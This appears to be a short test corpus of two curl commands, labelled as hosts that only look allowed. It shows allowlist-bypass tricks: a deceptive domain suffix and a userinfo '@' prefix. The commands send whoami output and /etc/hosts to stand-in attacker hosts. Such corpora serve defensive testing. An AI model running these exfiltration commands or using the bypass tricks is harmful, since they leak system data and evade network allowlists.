# corpus: curl to hosts that only look allowed (suffix and userinfo tricks) carrying local data
curl -s "https://api.example.com.evil.example.net/c?d=$(whoami)"
curl -s "https://api.example.com@198.51.100.12/c" --data-binary @/etc/hosts
